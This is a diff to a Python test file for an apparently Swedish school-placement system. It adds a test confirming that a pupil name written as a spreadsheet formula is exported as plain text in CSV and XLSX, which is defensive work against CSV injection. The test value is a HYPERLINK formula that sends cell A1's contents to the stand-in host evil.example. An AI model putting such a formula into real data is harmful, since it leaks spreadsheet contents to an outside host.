@@ -8,6 +8,8 @@ identity (``SECRET_NAME``).
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import time
 from collections.abc import Iterator
@@ -61,6 +63,7 @@ OFFICER = "cli:test"
 CHEAP = Argon2idHasher(argon2.PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1))
 PERSONAL_ID = re.compile(r"\d{8}-\d{4}")
 SECRET_NAME = "Hemlig Person"
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'  # pupil 2, from a pupil file
 LETTERS = {1: "A", 2: "B", 3: "C", 4: "D", 5: "E"}
 CHOICES = {
     1: ("NORRA-NA", "NORRA-EK"),
@@ -79,7 +82,7 @@ def _pupil(serial: int, letter: str) -> PupilGrades:
     subjects = [s for s in SUBJECTS if s not in {"SVA", "M1", "M2", "ML", "TSP"}]
     record = ApplicantRecord(
         personal_id=parse_personal_id(personal_id(serial), today=date(YEAR, 2, 1)),
-        name=SECRET_NAME if serial == 3 else f"Elev {serial}",
+        name={3: SECRET_NAME, 2: HOSTILE_NAME}.get(serial, f"Elev {serial}"),
         home_municipality="0180",
         school_unit_code=None,
         protected_identity=serial == 3,
@@ -434,6 +437,22 @@ def test_the_officer_downloads_reserves_and_statistics_as_xlsx(
     statistics = _export(officer, final_round, "statistics", "xlsx")
     sheet = openpyxl.load_workbook(BytesIO(statistics.content)).active
     assert [cell.value for cell in sheet[1]][:2] == ["code", "school_unit_name"]
+
+
+def test_a_pupil_named_like_a_formula_is_exported_as_text_in_csv_and_xlsx(
+    officer: TestClient, final_round: int
+) -> None:
+    """Issue 11 point 11: a name from a counsellor's file never runs as a formula in the
+    officer's spreadsheet (OWASP, "CSV Injection")."""
+    download = _export(officer, final_round, "placements", "csv")
+    rows = list(csv.reader(io.StringIO(download.text, newline="")))
+    names = [cell for row in rows for cell in row if "HYPERLINK" in cell]
+    assert names == ["'" + HOSTILE_NAME]
+
+    workbook = _export(officer, final_round, "placements", "xlsx")
+    sheet = openpyxl.load_workbook(BytesIO(workbook.content)).active
+    [cell] = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE_NAME]
+    assert (cell.data_type, cell.quotePrefix) == ("s", True)
 
 
 def test_an_export_of_an_unknown_round_or_kind_is_refused(
